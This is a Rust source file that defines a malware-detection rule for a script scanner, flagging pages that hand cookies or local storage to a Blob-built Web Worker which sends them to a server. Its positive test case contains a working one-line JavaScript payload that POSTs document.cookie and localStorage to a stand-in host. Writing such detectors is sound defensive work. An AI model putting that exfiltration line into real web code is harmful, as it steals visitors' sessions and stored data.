//! `worker-carries-session-away`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "worker-carries-session-away",
    description: "The script passes cookies or this page's stored data to a worker it creates, which sends them to a server.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Worker]), one(&[Atom::BlobAddress]), one(&[Atom::AllCookies, Atom::AllStorage])],
    within: 200,
    only_if: Some(sends),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"const w=new Worker(URL.createObjectURL(new Blob(['onmessage=e=>fetch("https://c.example/w",{method:"POST",body:e.data})'])));w.postMessage(document.cookie+'|'+JSON.stringify(localStorage))"#,
        ],
        without: &[
            r#"const w=new Worker(URL.createObjectURL(new Blob(['onmessage=e=>postMessage(sum(e.data))'])));w.postMessage(rows);log(document.cookie)"#,
        ],
    },
};

fn sends(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 60);
    near.has_word(&["postMessage"])
        && near.texts().any(|(_, text)| {
            ["fetch(", "xmlhttprequest", "sendbeacon", "websocket("].iter().any(|sends| text.contains(sends))
                && text.contains("//")
        })
}
